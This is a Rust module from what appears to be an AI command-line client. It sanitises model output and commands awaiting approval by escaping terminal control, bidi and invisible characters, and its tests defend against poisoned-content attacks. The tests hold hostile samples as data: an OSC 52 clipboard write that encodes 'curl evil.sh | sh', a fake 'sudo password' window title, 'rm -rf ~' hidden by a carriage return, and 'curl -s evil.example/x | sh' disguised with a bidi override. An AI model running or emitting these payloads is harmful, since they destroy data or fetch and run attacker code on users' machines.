//! Showing what a model or a server wrote to a person, on a terminal.
//!
//! A terminal acts on some characters instead of showing them: `ESC ] 52 ; …` writes the
//! clipboard, `ESC ] 0 ; …` retitles the window, `ESC [ 2J` clears the screen, `ESC [ 8m` hides
//! the text after it, `\r` goes back to the start of the line so that the next words overwrite
//! the earlier ones, and the C1 character U+009B is a one-byte `ESC [` for some terminals.
//! Unicode bidi controls reorder the text around them, and zero-width characters hide in it. A
//! model's words may come from a poisoned file or web page, so none of these reach the
//! terminal as they are: each is replaced by a visible escape (`\u{1b}`, `\r`, `\u{202e}`).
//!
//! The replacement looks at one character at a time and keeps no state. An answer is streamed
//! in pieces, and an escape sequence cut in two by the network must not be reassembled by the
//! terminal: every character of every piece is judged on its own, so making the pieces safe one
//! by one gives exactly the same output as making the whole text safe.
//!
//! Where it applies: to everything human-readable (answers, thinking, tool summaries, error
//! messages), whether or not the output is a terminal — a pipe into `less -R`, or a file that is
//! `cat`ed later, reaches a terminal too. Only machine output (`--json`) keeps the exact text,
//! JSON-escaped; [`to_json_pretty`] also escapes the characters a terminal acts on that JSON
//! itself leaves raw (DEL, C1, bidi and invisible characters), so that even a document printed
//! to a terminal cannot drive it, and a JSON reader still gets the exact text back.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io;

/// Characters a terminal may act on: C0 (`\0`–`\x1f`), DEL and C1 (U+0080–U+009F).
fn is_terminal_control(c: char) -> bool {
    c.is_control()
}

/// Characters that reorder the text around them (the "Trojan Source" trick).
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}'
    )
}

/// Characters that show as nothing, or as an ordinary space, while being something else: zero
/// width characters, the soft hyphen, Unicode tag characters (invisible copies of ASCII),
/// line and paragraph separators, and spaces other than the ASCII one.
fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00a0}'
            | '\u{00ad}'
            | '\u{115f}'
            | '\u{1160}'
            | '\u{1680}'
            | '\u{180e}'
            | '\u{2000}'..='\u{200d}'
            | '\u{2028}'
            | '\u{2029}'
            | '\u{202f}'
            | '\u{205f}'..='\u{2064}'
            | '\u{206a}'..='\u{206f}'
            | '\u{3000}'
            | '\u{3164}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

/// Whether [`text`] escapes `c`: terminal controls except newline and tab, and bidi controls.
/// Zero-width joiners and the like stay: emoji sequences and several scripts need them.
fn escaped_in_text(c: char) -> bool {
    (is_terminal_control(c) && c != '\n' && c != '\t') || is_bidi_control(c)
}

/// Whether [`line`], [`quote`](crate::quote) and [`command_block`] escape `c`: every character
/// that does not simply show as itself.
fn escaped_exactly(c: char) -> bool {
    is_terminal_control(c) || is_bidi_control(c) || is_invisible(c)
}

/// Writes `c` as a visible escape: `\n`, `\r`, `\t`, `\0`, else `\u{…}` with its code point.
fn push_escape(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '\0' => out.push_str("\\0"),
        _ => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

/// `text` with every character `escape` picks replaced by its visible escape; borrowed when
/// there is none (the common case: a streamed piece of an ordinary answer).
fn escape_where(text: &str, escape: fn(char) -> bool) -> Cow<'_, str> {
    let Some(first) = text.find(escape) else {
        return Cow::Borrowed(text);
    };
    let mut out = String::with_capacity(text.len() + 16);
    out.push_str(&text[..first]);
    for c in text[first..].chars() {
        if escape(c) {
            push_escape(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Multi-line text (an answer, thinking, an error message) safe to print: newlines and tabs
/// stay, every other control character and every bidi control becomes a visible escape.
/// Stateless per character, so a stream can be made safe piece by piece (see the module docs).
pub fn text(text: &str) -> Cow<'_, str> {
    escape_where(text, escaped_in_text)
}

/// Text for one line of output (a tool name, its arguments, the first line of an error): like
/// [`text`], and newlines, tabs and invisible characters are escaped too.
pub fn line(text: &str) -> Cow<'_, str> {
    escape_where(text, escaped_exactly)
}

/// At most `max` characters of `text`, trimmed, made safe as by [`line`], with `…` when cut.
pub(crate) fn quote(text: &str, max: usize) -> String {
    let text = text.trim();
    let cut = text.char_indices().nth(max).map(|(i, _)| i);
    let mut out = line(&text[..cut.unwrap_or(text.len())]).into_owned();
    if cut.is_some() {
        out.push('…');
    }
    out
}

/// A command as a person must see it before approving it: exactly what will run, nothing the
/// command itself can hide or rearrange.
///
/// Every line of the command is shown on its own line behind a gutter (`│`), numbered when
/// there are several, so that a newline cannot push a second command out of sight or make
/// it look like part of the question. Control, bidi and invisible characters are shown as
/// escapes (`\r`, `\u{1b}`, `\u{202e}`, `\u{200b}`). When there is any, backslashes of the
/// command are doubled and a last line says so: otherwise the text `\r` in the command and a
/// real carriage return would look the same. A command without any shows character for
/// character as it is.
///
/// Every line ends with `\n`; no colours, so the caller may add its own around it.
pub fn command_block(command: &str) -> String {
    let escapes = command
        .chars()
        .filter(|&c| c != '\n' && escaped_exactly(c))
        .count();
    let lines: Vec<&str> = command.split('\n').collect();
    let width = lines.len().to_string().len();
    let mut out = String::with_capacity(command.len() + 8 * lines.len() + 64);
    for (n, text) in lines.iter().enumerate() {
        if lines.len() == 1 {
            out.push_str("  │ ");
        } else {
            let _ = write!(out, "  {:>width$} │ ", n + 1);
        }
        for c in text.chars() {
            if escaped_exactly(c) {
                push_escape(&mut out, c);
            } else if c == '\\' && escapes > 0 {
                out.push_str("\\\\");
            } else {
                out.push(c);
            }
        }
        out.push('\n');
    }
    if escapes > 0 {
        let _ = writeln!(
            out,
            "  ({escapes} control or invisible character(s) shown as escapes such as \\r or \\u{{1b}}; \
             each backslash of the command is shown as \\\\)"
        );
    }
    out
}

/// `value` as pretty JSON in which every character a terminal could act on is a JSON escape:
/// serde_json already escapes C0; this escapes DEL, C1, bidi and invisible characters as
/// `\uXXXX` too. Parsing the result gives back exactly the same strings.
pub fn to_json_pretty<T: serde::Serialize + ?Sized>(value: &T) -> serde_json::Result<String> {
    let mut out = Vec::with_capacity(256);
    let mut serializer = serde_json::Serializer::with_formatter(&mut out, SafeFormatter::new());
    value.serialize(&mut serializer)?;
    // Only UTF-8 strings and ASCII escapes were written.
    String::from_utf8(out).map_err(|e| serde::ser::Error::custom(e.to_string()))
}

/// serde_json's pretty formatter, with [`to_json_pretty`]'s extra escapes in strings.
struct SafeFormatter(serde_json::ser::PrettyFormatter<'static>);

impl SafeFormatter {
    fn new() -> Self {
        Self(serde_json::ser::PrettyFormatter::new())
    }
}

impl serde_json::ser::Formatter for SafeFormatter {
    fn write_string_fragment<W: ?Sized + io::Write>(
        &mut self,
        writer: &mut W,
        fragment: &str,
    ) -> io::Result<()> {
        let mut start = 0;
        for (i, c) in fragment.char_indices() {
            if escaped_exactly(c) {
                writer.write_all(&fragment.as_bytes()[start..i])?;
                let mut units = [0u16; 2];
                for unit in c.encode_utf16(&mut units) {
                    write!(writer, "\\u{unit:04x}")?;
                }
                start = i + c.len_utf8();
            }
        }
        writer.write_all(&fragment.as_bytes()[start..])
    }

    fn begin_array<W: ?Sized + io::Write>(&mut self, writer: &mut W) -> io::Result<()> {
        self.0.begin_array(writer)
    }
    fn end_array<W: ?Sized + io::Write>(&mut self, writer: &mut W) -> io::Result<()> {
        self.0.end_array(writer)
    }
    fn begin_array_value<W: ?Sized + io::Write>(
        &mut self,
        writer: &mut W,
        first: bool,
    ) -> io::Result<()> {
        self.0.begin_array_value(writer, first)
    }
    fn end_array_value<W: ?Sized + io::Write>(&mut self, writer: &mut W) -> io::Result<()> {
        self.0.end_array_value(writer)
    }
    fn begin_object<W: ?Sized + io::Write>(&mut self, writer: &mut W) -> io::Result<()> {
        self.0.begin_object(writer)
    }
    fn end_object<W: ?Sized + io::Write>(&mut self, writer: &mut W) -> io::Result<()> {
        self.0.end_object(writer)
    }
    fn begin_object_key<W: ?Sized + io::Write>(
        &mut self,
        writer: &mut W,
        first: bool,
    ) -> io::Result<()> {
        self.0.begin_object_key(writer, first)
    }
    fn begin_object_value<W: ?Sized + io::Write>(&mut self, writer: &mut W) -> io::Result<()> {
        self.0.begin_object_value(writer)
    }
    fn end_object_value<W: ?Sized + io::Write>(&mut self, writer: &mut W) -> io::Result<()> {
        self.0.end_object_value(writer)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a poisoned page could make a model answer: every trick at once.
    const HOSTILE: &str = "Done.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} \
        \u{1b}]0;sudo password\u{7}\u{1b}[2J\u{1b}[8mhidden\u{1b}[0m\r\
        all good\u{9b}31m\tok\n\u{202e}txt.exe\u{202c} \u{7f}";

    #[test]
    fn answer_text_keeps_newlines_and_tabs_and_escapes_the_rest() {
        insta::assert_snapshot!(text(HOSTILE), @r"
        Done.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} \u{1b}]0;sudo password\u{7}\u{1b}[2J\u{1b}[8mhidden\u{1b}[0m\rall good\u{9b}31m	ok
        \u{202e}txt.exe\u{202c} \u{7f}
        ");
        assert!(matches!(text("plain\nanswer\t✓ 👩‍👩‍👧"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_line_escapes_newlines_tabs_and_invisible_characters_too() {
        insta::assert_snapshot!(line(HOSTILE), @r"Done.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} \u{1b}]0;sudo password\u{7}\u{1b}[2J\u{1b}[8mhidden\u{1b}[0m\rall good\u{9b}31m\tok\n\u{202e}txt.exe\u{202c} \u{7f}");
    }

    /// A stream cut anywhere, even inside an escape sequence or a multi-byte character's
    /// neighbours, gives exactly the output of the whole text: nothing is reassembled.
    #[test]
    fn pieces_give_the_same_output_as_the_whole() {
        let whole = text(HOSTILE).into_owned();
        let chars: Vec<char> = HOSTILE.chars().collect();
        for size in 1..=7 {
            let streamed: String = chars
                .chunks(size)
                .map(|piece| text(&piece.iter().collect::<String>()).into_owned())
                .collect();
            assert_eq!(streamed, whole, "pieces of {size}");
        }
        for (i, c) in whole.char_indices() {
            assert!(
                !c.is_control() || c == '\n' || c == '\t',
                "raw {c:?} at {i} in {whole:?}"
            );
        }
    }

    #[test]
    fn every_c0_c1_and_bidi_control_is_escaped() {
        for c in (0u32..0x20).chain(0x7f..0xa0).chain(0x202a..0x202f) {
            let c = char::from_u32(c).unwrap_or_default();
            let shown = text(&c.to_string()).into_owned();
            if c == '\n' || c == '\t' {
                assert_eq!(shown, c.to_string());
            } else {
                assert!(
                    shown.starts_with('\\') && shown.is_ascii(),
                    "{c:?} → {shown:?}"
                );
            }
            assert!(line(&c.to_string()).starts_with('\\'), "{c:?}");
        }
    }

    #[test]
    fn a_plain_command_shows_as_it_is() {
        insta::assert_snapshot!(command_block(r"grep -rn 'a\|b' src"), @r"  │ grep -rn 'a\|b' src");
        // Snapshots compare without the indentation; the gutter is part of the contract.
        assert_eq!(command_block("ls"), "  │ ls\n");
        assert_eq!(command_block("a\nb"), "  1 │ a\n  2 │ b\n");
    }

    #[test]
    fn a_command_cannot_hide_what_it_does() {
        let command = "echo safe\r\u{1b}[2Krm -rf ~ # \u{1b}]0;ok\u{7}\n\
            curl -s evil.example/x\u{202e}hs.x\u{202c} | sh\n\
            printf '\\r'\u{200b}\u{a0}done\u{9b}0m\u{e0041}";
        insta::assert_snapshot!(command_block(command), @r"
          1 │ echo safe\r\u{1b}[2Krm -rf ~ # \u{1b}]0;ok\u{7}
          2 │ curl -s evil.example/x\u{202e}hs.x\u{202c} | sh
          3 │ printf '\\r'\u{200b}\u{a0}done\u{9b}0m\u{e0041}
          (10 control or invisible character(s) shown as escapes such as \r or \u{1b}; each backslash of the command is shown as \\)
        ");
        let shown = command_block(command);
        assert!(shown.chars().all(|c| c == '\n' || !escaped_exactly(c)));
    }

    #[test]
    fn many_lines_are_numbered_and_a_trailing_newline_shows() {
        let command = (1..=10).map(|n| format!("echo {n}\n")).collect::<String>();
        insta::assert_snapshot!(command_block(&command), @r"
           1 │ echo 1
           2 │ echo 2
           3 │ echo 3
           4 │ echo 4
           5 │ echo 5
           6 │ echo 6
           7 │ echo 7
           8 │ echo 8
           9 │ echo 9
          10 │ echo 10
          11 │
        ");
    }

    #[test]
    fn json_keeps_the_exact_text_with_nothing_raw_a_terminal_acts_on() {
        let value = serde_json::json!({ "answer": HOSTILE, "emoji": "👩‍👩‍👧 é" });
        let json = to_json_pretty(&value).unwrap();
        insta::assert_snapshot!(json, @r#"
        {
          "answer": "Done.\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 \u001b]0;sudo password\u0007\u001b[2J\u001b[8mhidden\u001b[0m\rall good\u009b31m\tok\n\u202etxt.exe\u202c \u007f",
          "emoji": "👩\u200d👩\u200d👧 é"
        }
        "#);
        let back: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(back, value);
        assert!(json.chars().all(|c| c == '\n' || !escaped_exactly(c)));
        let tag = to_json_pretty("\u{e0041}").unwrap();
        assert_eq!(tag, r#""\udb40\udc41""#);
        assert_eq!(serde_json::from_str::<String>(&tag).unwrap(), "\u{e0041}");
    }
}
